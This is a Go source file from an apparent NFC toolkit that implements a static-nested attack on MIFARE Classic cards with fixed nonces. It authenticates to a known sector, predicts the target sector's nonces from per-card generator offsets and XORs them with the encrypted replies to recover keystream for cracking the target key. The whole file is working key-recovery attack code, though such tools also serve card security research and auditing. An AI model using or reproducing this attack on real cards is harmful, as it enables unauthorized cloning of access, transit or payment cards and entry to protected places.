package mfclassic

import (
	"context"
	"fmt"
	"log/slog"

	"github.com/barnettlynn/nfctools/pkg/crypto1"
)

// StaticProfile maps the fixed nonce of a static-nonce card to the generator
// offsets of the first and second nested nonce for one key type.
type StaticProfile struct {
	Name    string
	Nonce   uint32 // first nonce after power-up
	KeyType KeyType
	Offsets [2]uint32
}

// DefaultStaticOffsets apply to static cards without a matching profile.
var DefaultStaticOffsets = [2]uint32{160, 320}

// StaticProfiles lists cards whose offsets differ from DefaultStaticOffsets.
var StaticProfiles = []StaticProfile{
	{Name: "static 009080A2 key B", Nonce: 0x009080A2, KeyType: KeyB, Offsets: [2]uint32{161, 321}},
}

// LookupStaticOffsets returns the offsets for a card whose first nonce is nt1
// when attacking a key of type kt.
func LookupStaticOffsets(profiles []StaticProfile, nt1 uint32, kt KeyType) [2]uint32 {
	for _, p := range profiles {
		if p.Nonce == nt1 && p.KeyType == kt {
			return p.Offsets
		}
	}
	return DefaultStaticOffsets
}

// StaticParams configures StaticNestedAttack.
type StaticParams struct {
	Source   Target
	Key      Key
	Target   Target
	Profiles []StaticProfile // nil means StaticProfiles
}

// StaticResult holds two predicted target nonces and their keystreams.
type StaticResult struct {
	UID       uint32
	TargetNt  [2]uint32
	TargetKs  [2]uint32
	Collected int
	Outcome   Outcome
}

// StaticNestedAttack attacks a card that always starts its generator at the
// same state. The target nonces are predicted from the source nonce, so the
// keystream is read off directly without the parity oracle.
//
// The first round authenticates plainly and requests the target; the second
// adds a nested authentication to the source before requesting the target,
// which moves the target nonce to the second offset.
func StaticNestedAttack(ctx context.Context, t Transceiver, p StaticParams) (StaticResult, error) {
	profiles := p.Profiles
	if profiles == nil {
		profiles = StaticProfiles
	}
	res := StaticResult{Outcome: OutcomePartial}

	for round := 0; round < 2; round++ {
		if err := ctx.Err(); err != nil {
			return res, err
		}
		uid, nt1, enc, err := staticRound(t, p, round == 1)
		if err != nil {
			if IsNoTag(err) || isFieldFailure(err) {
				res.Outcome = OutcomeNoTag
			}
			return res, err
		}
		res.UID = uid

		offsets := LookupStaticOffsets(profiles, nt1, p.Target.KeyType)
		res.TargetNt[round] = crypto1.Successor(nt1, offsets[round])
		res.TargetKs[round] = enc ^ res.TargetNt[round]
		res.Collected++
		slog.Debug("static nonce predicted",
			"round", round,
			"nt1", fmt.Sprintf("%08X", nt1),
			"offset", offsets[round],
			"ks", fmt.Sprintf("%08X", res.TargetKs[round]))
	}

	res.Outcome = OutcomeFull
	return res, nil
}

func staticRound(t Transceiver, p StaticParams, nestedFirst bool) (uid, nt1, enc uint32, err error) {
	info, release, err := openField(t)
	defer release()
	if err != nil {
		return 0, 0, 0, err
	}
	uid = info.CUID()

	var s Session
	nt1, err = Authenticate(t, &s, AuthParams{UID: uid, Target: p.Source, Key: p.Key})
	if err != nil {
		return uid, 0, 0, err
	}
	if nestedFirst {
		if _, err := Authenticate(t, &s, AuthParams{UID: uid, Target: p.Source, Key: p.Key, Nested: true}); err != nil {
			return uid, nt1, 0, err
		}
	}

	rx, err := sendShortCommand(t, &s, true, p.Target.KeyType.AuthCommand(), p.Target.Block)
	if err != nil {
		return uid, nt1, 0, err
	}
	enc, ok := readNonce(rx)
	if !ok {
		return uid, nt1, 0, ErrNoResponse
	}
	return uid, nt1, enc, nil
}
